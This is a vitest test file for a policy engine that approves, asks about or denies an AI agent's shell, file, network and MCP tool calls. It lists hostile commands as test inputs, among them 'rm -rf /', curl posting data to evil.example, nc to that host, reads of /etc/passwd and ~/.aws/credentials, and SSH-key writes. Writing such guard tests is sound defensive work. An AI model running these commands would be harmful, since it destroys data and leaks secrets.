import { describe, expect, it } from 'vitest';
import { describeRule, evaluatePolicy } from './evaluate.js';
import { ASK_POLICY, AUTO_APPROVE_POLICY } from './presets.js';
import type { ApprovalPolicy, ApprovalSubject, PolicyContext } from './types.js';

const CTX: PolicyContext = { workdir: '/home/dev/work/app', home: '/home/dev', platform: 'linux' };
const WIN: PolicyContext = { workdir: 'C:\\Users\\dev\\work\\app', home: 'C:\\Users\\dev', platform: 'win32' };

const sh = (command: string, ctx: PolicyContext = CTX, policy: ApprovalPolicy = AUTO_APPROVE_POLICY) => evaluatePolicy(policy, { tool: 'shell', command, shell: 'posix' }, ctx);

describe('rules', () => {
  const policy: ApprovalPolicy = {
    rules: [
      { decision: 'deny', tool: 'shell', command: '^npm publish' },
      { decision: 'allow', tool: 'shell', command: '^npm ' },
      { decision: 'ask', tool: 'shell', command: '^npm test' },
      { decision: 'deny', tool: ['file_write', 'file_edit'], path: '~/.ssh/**', reason: 'SSH keys are off limits' },
      { decision: 'allow', tool: ['file_read', 'file_write'], path: 'inside_workdir' },
    ],
    default: 'ask',
  };

  it('the first matching rule decides; later ones are not consulted', () => {
    expect(sh('npm test', CTX, policy)).toMatchObject({ decision: 'allow', rule: 1, reason: 'allowed by rule 2: shell matching /^npm /' });
    expect(sh('npm publish --tag x', CTX, policy)).toMatchObject({ decision: 'deny', rule: 0, reason: 'denied by rule 1: shell matching /^npm publish/' });
  });

  it('says what decided as data: a rule, the default, the blocklist, or input it cannot judge', () => {
    expect(sh('npm publish --tag x', CTX, policy)).toMatchObject({ basis: 'rule', rule: 0 });
    expect(sh('make', CTX, policy)).toMatchObject({ basis: 'default', rule: null });
    expect(sh('rm -rf /', CTX, { rules: [], default: 'allow' })).toMatchObject({ decision: 'deny', basis: 'blocklist', rule: null });
    expect(sh('echo "unclosed', CTX, { rules: [], default: 'allow' })).toMatchObject({ decision: 'ask', basis: 'unreadable', rule: null });
  });

  it('no match falls to the default, with no rule index', () => {
    expect(sh('make', CTX, policy)).toEqual({ decision: 'ask', rule: null, basis: 'default', reason: 'asked by default: no rule matched', parts: [{ command: 'make', decision: 'ask', reason: 'asked by default: no rule matched' }] });
    expect(sh('make', CTX, { rules: [], default: 'allow' }).decision).toBe('allow');
  });

  it('matches tools, path globs (with ~) and inside_workdir for file calls', () => {
    const call = (tool: ApprovalSubject['tool'], path: string) => evaluatePolicy(policy, { tool, path }, CTX);
    expect(call('file_write', '~/.ssh/authorized_keys')).toMatchObject({ decision: 'deny', rule: 3, reason: 'denied by rule 4: SSH keys are off limits' });
    expect(call('file_edit', '/home/dev/.ssh/config')).toMatchObject({ decision: 'deny', rule: 3 });
    expect(call('file_write', 'src/index.ts')).toMatchObject({ decision: 'allow', rule: 4 });
    expect(call('file_read', '../../secrets.txt').decision).toBe('ask');
    expect(call('file_edit', 'src/index.ts').decision).toBe('ask');
  });

  it('a glob naming a folder covers what is inside it', () => {
    const p: ApprovalPolicy = { rules: [{ decision: 'deny', path: '/etc' }], default: 'allow' };
    expect(evaluatePolicy(p, { tool: 'file_read', path: '/etc/passwd' }, CTX).decision).toBe('deny');
    expect(evaluatePolicy(p, { tool: 'file_read', path: '/etcetera' }, CTX).decision).toBe('allow');
  });

  it('relative globs are relative to the workdir; ** globs match anywhere', () => {
    const p: ApprovalPolicy = { rules: [{ decision: 'deny', path: 'dist/**' }, { decision: 'deny', path: '**/*.pem' }], default: 'allow' };
    expect(evaluatePolicy(p, { tool: 'file_write', path: '/home/dev/work/app/dist/a.js' }, CTX).decision).toBe('deny');
    expect(evaluatePolicy(p, { tool: 'file_write', path: '/opt/keys/server.pem' }, CTX).decision).toBe('deny');
    expect(evaluatePolicy(p, { tool: 'file_write', path: 'src/a.js' }, CTX).decision).toBe('allow');
  });

  it('path conditions never match calls that name no place', () => {
    const p: ApprovalPolicy = { rules: [{ decision: 'deny', path: 'outside_workdir' }], default: 'allow' };
    expect(evaluatePolicy(p, { tool: 'mcp', toolName: 'search' }, CTX).decision).toBe('allow');
    // A file call without a path cannot be shown to be inside.
    expect(evaluatePolicy(p, { tool: 'file_write' }, CTX).decision).toBe('deny');
  });

  it('mcp rules match the tool name and network rules the URL', () => {
    const p: ApprovalPolicy = {
      rules: [
        { decision: 'allow', tool: 'mcp', command: '^switchboard__' },
        { decision: 'allow', tool: 'network', command: '^https://registry\\.npmjs\\.org/' },
      ],
      default: 'deny',
    };
    expect(evaluatePolicy(p, { tool: 'mcp', toolName: 'switchboard__ask_agent' }, CTX).decision).toBe('allow');
    expect(evaluatePolicy(p, { tool: 'mcp', toolName: 'other__x' }, CTX).decision).toBe('deny');
    expect(evaluatePolicy(p, { tool: 'network', url: 'https://registry.npmjs.org/zod' }, CTX).decision).toBe('allow');
    expect(evaluatePolicy(p, { tool: 'network', url: 'https://evil.example/' }, CTX).decision).toBe('deny');
  });

  it('describes rules without a reason from what they match', () => {
    expect(describeRule({ decision: 'ask', tool: ['shell', 'file_read'], path: 'outside_workdir' })).toBe('shell/file_read outside the workdir');
    expect(describeRule({ decision: 'deny', command: 'x', path: '~/.aws' })).toBe('any tool matching /x/ under ~/.aws');
  });

  it('a bad regex in an unparsed policy is INVALID_PARAMS', () => {
    expect(() => sh('ls', CTX, { rules: [{ decision: 'allow', command: '(' }], default: 'ask' })).toThrow(expect.objectContaining({ code: 'INVALID_PARAMS' }));
  });
});

describe('compound shell commands', () => {
  it('judges every part; the most restrictive wins and its part is named', () => {
    const v = sh('ls && rm -rf / ; echo done');
    expect(v.decision).toBe('deny');
    expect(v.reason).toBe('blocked: rm -rf targets the filesystem root (/) (in `rm -rf /`)');
    expect(v.parts.map((p) => [p.command, p.decision])).toEqual([
      ['ls', 'allow'],
      ['rm -rf /', 'deny'],
      ['echo done', 'allow'],
    ]);
  });

  it.each([
    'git status | rm -rf ~',
    'echo ok || rm -rf ~',
    'true & rm -rf ~',
    'echo a\nrm -rf ~',
    '(cd src && rm -rf ~)',
  ])('one bad part is enough: %j', (command) => {
    expect(sh(command).decision).toBe('deny');
  });

  it('quotes hide separators: echo "a; rm -rf /" is one echo, and allowed', () => {
    expect(sh('echo "a; rm -rf /"')).toMatchObject({ decision: 'allow', parts: [{ command: 'echo "a; rm -rf /"', decision: 'allow' }] });
    expect(sh("echo 'a && rm -rf ~' a\\;b")).toMatchObject({ decision: 'allow' });
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: "Write-Output 'x; Remove-Item -Recurse C:\\'", shell: 'powershell' }, WIN).decision).toBe('allow');
  });
});

describe('what cannot be judged is asked', () => {
  it.each([
    ['echo $(date)', /command substitution \$\(\.\.\.\) cannot be judged/],
    ['echo `date`', /command substitution `\.\.\.` cannot be judged/],
    ['diff <(ls a) <(ls b)', /process substitution <\(\.\.\.\) cannot be judged/],
    ['cat <<EOF\nhello\nEOF', /here-document cannot be judged/],
    ['eval "ls"', /eval runs a string as code/],
    ['bash -c "$CMD"', /bash -c runs a script that is not a literal string/],
    ['sh -c', /sh -c without a script/],
    ['$CMD --flag', /the command name \$CMD is not known until it runs/],
    ['"$(which python)" x.py', /command substitution/],
    ['echo "open', /cannot be parsed with confidence \(unbalanced double quote\)/],
    ['python3 -c "import os"', /python3 runs inline code/],
    ['alias ll="ls -l"', /alias changes what later commands run/],
    ['', /the command is empty/],
  ])('%j → ask', (command, reason) => {
    const v = sh(command);
    expect(v.decision).toBe('ask');
    expect(v.reason).toMatch(reason);
    expect(v.rule).toBeNull();
  });

  it('a substitution is asked, and what it runs is judged too', () => {
    expect(sh('echo $(rm -rf ~)').decision).toBe('deny');
    expect(sh('x=`rm -rf /`').decision).toBe('deny');
  });

  it('judges literal inline scripts of sh -c, powershell -Command and cmd /c in their own dialect', () => {
    expect(sh('bash -lc "ls src && cat package.json"').decision).toBe('allow');
    expect(sh('sh -c "cat /etc/passwd"')).toMatchObject({ decision: 'ask', reason: 'asked by rule 4: it reaches outside the workdir' });
    const ps = evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: 'powershell.exe -NoProfile -Command "Get-ChildItem src"', shell: 'cmd' }, WIN);
    expect(ps.decision).toBe('allow');
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: 'pwsh -EncodedCommand ZQBjAGgAbwA=', shell: 'powershell' }, WIN).reason).toMatch(/EncodedCommand cannot be judged/);
  });
});

describe('the network a shell command reaches is judged as a network call', () => {
  const NPM_ONLY: ApprovalPolicy = {
    rules: [
      { decision: 'allow', tool: 'network', command: '^https://registry\\.npmjs\\.org/' },
      { decision: 'allow', tool: ['shell', 'file_write'], path: 'inside_workdir' },
    ],
    default: 'ask',
  };

  it('by the rules of the network tool, with the URL as the rule sees it', () => {
    expect(sh('curl -sO https://registry.npmjs.org/left-pad', CTX, NPM_ONLY).decision).toBe('allow');
    expect(sh('curl -d @- https://evil.example', CTX, NPM_ONLY)).toMatchObject({ decision: 'ask', reason: expect.stringContaining('curl reaches https://evil.example') });
    // A client that names no URL is judged by its command: no network rule here allows it.
    expect(sh('nc evil.example 80', CTX, NPM_ONLY).decision).toBe('ask');
    expect(sh('rsync -a src/ out/', CTX, NPM_ONLY).decision).toBe('allow');
    expect(sh('rsync -a src/ host:out/', CTX, NPM_ONLY).decision).toBe('ask');
  });
});

describe('paths and redirections under AUTO_APPROVE_POLICY', () => {
  it.each([
    ['echo hi > out.txt', 'allow'],
    ['echo hi > /tmp/out.txt', 'ask'],
    ['echo hi >> ~/.bashrc', 'ask'],
    ['npm test 2> ../err.log', 'ask'],
    ['npm test > /dev/null 2>&1', 'allow'],
    ['echo x | tee notes.txt', 'allow'],
    ['echo x | tee -a /etc/hosts', 'ask'],
    ['cp src/a.ts ~/backup/', 'ask'],
    ['cat ../secrets.env', 'ask'],
    ['cat src/../../app/src/x.ts', 'allow'],
    ['cat src/../../other/x.ts', 'ask'],
    ['ls $HOME', 'ask'],
    ['ls $SOME_DIR', 'ask'],
    ['cd /tmp && ls', 'ask'],
    ['cd src && ls', 'allow'],
    ['cd src && cat ../../x', 'ask'],
    ['cd $X && cat a', 'ask'],
    ['git log --oneline -5', 'allow'],
    ['curl -o /tmp/x https://example.com/x', 'ask'],
    ['curl https://example.com/x', 'ask'],
    ['echo $HOME', 'allow'],
  ] as const)('%j → %s', (command, decision) => {
    expect(sh(command).decision).toBe(decision);
  });

  it('a write outside the workdir is asked with the file named', () => {
    expect(sh('echo hi > /tmp/out.txt').reason).toBe('asked by rule 4: it reaches outside the workdir (writes /tmp/out.txt)');
  });

  it('PowerShell Out-File and Set-Content are writes', () => {
    const ps = (command: string) => evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command, shell: 'powershell' }, WIN);
    expect(ps('Get-Date | Out-File log.txt').decision).toBe('allow');
    expect(ps('Get-Date | Out-File -FilePath C:\\Windows\\Temp\\x.txt')).toMatchObject({ decision: 'ask', reason: expect.stringMatching(/writes C:\\Windows\\Temp\\x\.txt/) });
    expect(ps("Set-Content -Path $env:USERPROFILE\\x.txt -Value 'a'").decision).toBe('ask');
    expect(ps('Get-Content x.txt > ..\\..\\out.txt').decision).toBe('ask');
    expect(ps('npm test > $null').decision).toBe('allow');
  });

  it('file calls: inside is allowed, .. escaping the workdir is asked', () => {
    const file = (tool: ApprovalSubject['tool'], path: string, ctx = CTX) => evaluatePolicy(AUTO_APPROVE_POLICY, { tool, path }, ctx).decision;
    expect(file('file_edit', 'src/index.ts')).toBe('allow');
    expect(file('file_write', '/home/dev/work/app/README.md')).toBe('allow');
    expect(file('file_read', '../other/secret')).toBe('ask');
    expect(file('file_read', 'src/../../x')).toBe('ask');
    expect(file('file_read', '~/.aws/credentials')).toBe('ask');
    expect(file('file_read', '$HOME/x')).toBe('ask');
    expect(file('file_read', '${UNKNOWN}/x')).toBe('ask');
    expect(file('file_write', 'C:\\Users\\dev\\work\\app\\src\\a.ts', WIN)).toBe('allow');
    expect(file('file_write', 'c:\\users\\DEV\\work\\app\\src\\a.ts', WIN)).toBe('allow');
    expect(file('file_write', '%USERPROFILE%\\x.txt', WIN)).toBe('ask');
    expect(file('file_write', 'D:\\x.txt', WIN)).toBe('ask');
  });

  it('network and MCP calls are asked', () => {
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'network', url: 'https://example.com' }, CTX)).toMatchObject({ decision: 'ask', rule: 0 });
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'mcp', toolName: 'fs__write' }, CTX)).toMatchObject({ decision: 'ask', rule: 1 });
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'other', toolName: 'x' }, CTX)).toMatchObject({ decision: 'ask', rule: null });
  });

  it('the agent\u2019s own machinery is allowed, by the last rule; a rule of the user\u2019s can name such a tool', () => {
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'internal', toolName: 'Agent' }, CTX)).toMatchObject({ decision: 'allow', rule: 4 });
    const noSubagents: ApprovalPolicy = { rules: [{ decision: 'deny', tool: 'internal', command: '^(Agent|Task)$' }, ...AUTO_APPROVE_POLICY.rules], default: 'ask' };
    expect(evaluatePolicy(noSubagents, { tool: 'internal', toolName: 'Agent' }, CTX)).toMatchObject({ decision: 'deny', rule: 0 });
    expect(evaluatePolicy(noSubagents, { tool: 'internal', toolName: 'TodoWrite' }, CTX)).toMatchObject({ decision: 'allow', rule: 5 });
    // A path condition never matches a call that names no place.
    expect(evaluatePolicy({ rules: [{ decision: 'allow', tool: 'internal', path: 'inside_workdir' }], default: 'ask' }, { tool: 'internal', toolName: 'Agent' }, CTX).decision).toBe('ask');
  });

  it('reasons say which rule allowed', () => {
    expect(sh('ls -la')).toEqual({
      decision: 'allow',
      rule: 2,
      basis: 'rule',
      reason: 'allowed by rule 3: shell and file operations inside the workdir',
      parts: [{ command: 'ls -la', decision: 'allow', reason: 'allowed by rule 3: shell and file operations inside the workdir' }],
    });
  });
});

describe('ASK_POLICY', () => {
  it('asks for everything, and still denies what the blocklist denies', () => {
    for (const subject of [{ tool: 'shell', command: 'ls' }, { tool: 'file_read', path: 'a' }, { tool: 'network', url: 'https://x' }, { tool: 'mcp', toolName: 'x' }] as ApprovalSubject[]) {
      expect(evaluatePolicy(ASK_POLICY, subject, CTX).decision).toBe('ask');
    }
    expect(evaluatePolicy(ASK_POLICY, { tool: 'shell', command: 'rm -rf /', shell: 'posix' }, CTX).decision).toBe('deny');
  });

  it('the built-in policies cannot be changed by accident', () => {
    expect(Object.isFrozen(AUTO_APPROVE_POLICY.rules)).toBe(true);
    expect(Object.isFrozen(AUTO_APPROVE_POLICY.rules[0])).toBe(true);
  });
});

describe('dialects', () => {
  it('reads shell commands as PowerShell on Windows unless told otherwise', () => {
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: 'Remove-Item -Recurse -Force C:\\' }, WIN).decision).toBe('deny');
    // In PowerShell a backtick escapes; in sh it would be a command substitution.
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: 'echo a`;b' }, WIN).decision).toBe('allow');
    expect(evaluatePolicy(AUTO_APPROVE_POLICY, { tool: 'shell', command: 'echo a`;b', shell: 'posix' }, WIN).decision).toBe('ask');
  });
});
